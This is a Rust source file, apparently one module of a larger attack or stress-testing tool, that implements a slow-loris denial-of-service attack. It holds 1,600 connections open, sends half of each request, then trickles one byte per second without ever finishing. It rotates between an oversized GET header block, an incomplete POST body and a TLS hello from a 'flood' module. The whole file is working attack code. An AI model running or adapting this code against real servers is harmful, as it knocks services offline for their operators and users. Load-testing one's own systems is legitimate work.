//! A slow loris: many connections that ask for nothing quickly.

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{Attack, Target, flood};

/// Connections.
pub(super) const CONNECTIONS: u32 = 1_600;
/// Between two bytes.
const PACE: Duration = Duration::from_secs(1);

/// Keeps one connection, and takes another when the node ends it.
pub(super) async fn attack(attack: Arc<Attack>, number: usize) {
    let Target { plain, tls } = attack.orders.target;
    let (to, bytes) = match number % 3 {
        0 => (plain, of_head(&attack.orders.path)),
        1 => (plain, of_body()),
        _ => (tls, flood::hello(&attack.tls)),
    };
    loop {
        let mut stream = attack.dial(number, to).await;
        attack.requests.fetch_add(1, Ordering::Relaxed);
        // All but the last of what comes first; then one byte each second, and never the end.
        let mut left = bytes.iter();
        let begun: Vec<u8> = left.by_ref().take(bytes.len() / 2).copied().collect();
        let mut is_open = stream.write_all(&begun).await.is_ok();
        let mut heard = [0; 256];
        for byte in left {
            if !is_open {
                break;
            }
            // What the node says is heard while the next byte waits for its time.
            let told = tokio::time::timeout(PACE, stream.read(&mut heard)).await;
            is_open = told.is_err() && stream.write_all(&[*byte]).await.is_ok();
        }
        attack.ended();
    }
}

fn of_head(path: &str) -> Vec<u8> {
    let mut head = format!("GET {path} HTTP/1.1\r\nHost: localhost\r\n").into_bytes();
    let fields = (0..200).flat_map(|at| format!("X-{at}: a\r\n").into_bytes());
    head.extend(fields);
    head
}

fn of_body() -> Vec<u8> {
    let head = "POST /o/form HTTP/1.1\r\nHost: localhost\r\n\
                Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n";
    let mut bytes = head.as_bytes().to_vec();
    bytes.extend(vec![b'a'; head.len()]);
    bytes
}
